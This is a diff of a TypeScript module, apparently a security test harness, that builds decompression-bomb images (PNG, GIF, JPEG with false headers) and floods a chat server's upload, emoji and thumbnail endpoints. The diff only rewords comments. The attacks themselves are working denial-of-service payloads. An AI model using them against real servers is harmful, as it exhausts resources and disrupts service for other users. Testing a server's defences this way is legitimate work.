@@ -2,7 +2,7 @@ import { crc32, deflateSync } from 'node:zlib'
 import type { Attack, Attacker } from './attack.ts'
 import { call, flood } from './calls.ts'
 
-/** A square GIF of so many pixels each side and frames of one pixel; all ASCII. */
+/** A square GIF with this many pixels on each side and frames of one pixel; all ASCII. */
 function gif(side: number, frames: number): Buffer {
   const size = String.fromCharCode(side % 256, side >> 8)
   const frame = ',\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0'
@@ -18,8 +18,9 @@ function chunk(type: string, content: Buffer): Buffer {
 }
 
 /**
- * A PNG of one colour, one bit a pixel: a thousand times smaller than what it unpacks to.
- * @param told what its head says of its sides, where that is a lie
+ * A PNG of one colour, one bit a pixel: a thousandth of its unpacked size.
+ *
+ * @param told false sides for its header
  */
 function png(width: number, height = width, told = { width, height }): Buffer {
   const head = Buffer.alloc(13)
@@ -41,7 +42,7 @@ function textBomb(): Buffer {
   return Buffer.concat([small.subarray(0, head), ...Array.from({ length: 40 }, () => text), small.subarray(head)])
 }
 
-/** The head of a JPEG that says how large it is, and nothing behind it. */
+/** The header of a JPEG with its size, and nothing after it. */
 function jpegHead(side: number): Buffer {
   const frame = Buffer.from('ffd8ffc0001108000000000301220002110103110100', 'hex')
   frame.writeUInt16BE(side, 7)
@@ -85,7 +86,7 @@ export const pictureAttacks: readonly Attack[] = [
     run: async (attacker) => {
       const [tall, small] = [png(1, 15_000_000), png(8)]
       const pictures = flood(attacker, 4, () => sent(attacker, 0, 'x.png', tall))
-      // G8: what is deactivated made the organization's emoji full for good.
+      // G8: deactivated emoji used to fill the organization's room for good.
       const emoji = flood(attacker, 1, (turn) => {
         const added = sent(attacker, 4 * Math.floor(turn / 2) + 1, 'x.png', small)
         return turn % 2 === 0 ? added : { method: 'DELETE', path: added.path, authorization: attacker.groups.manager }
@@ -135,7 +136,7 @@ export const pictureAttacks: readonly Attack[] = [
       const upload = (turn: number) => sent(attacker, turn * 4 + 2, 'x.png', picture)
       const pieces: Buffer[] = []
       await call(attacker, upload(0), (piece) => pieces.push(piece))
-      // Whoever is refused shows one that is not there.
+      // If the upload is refused, a missing image is shown.
       const path = /\/user_uploads\/[^"]+/.exec(Buffer.concat(pieces).toString())?.[0] ?? '/user_uploads/1/none/x.png'
       const small = path.replace('/user_uploads/', '/user_uploads/thumbnail/')
       const content = `[x](${path}) `.repeat(50).slice(0, 9900)
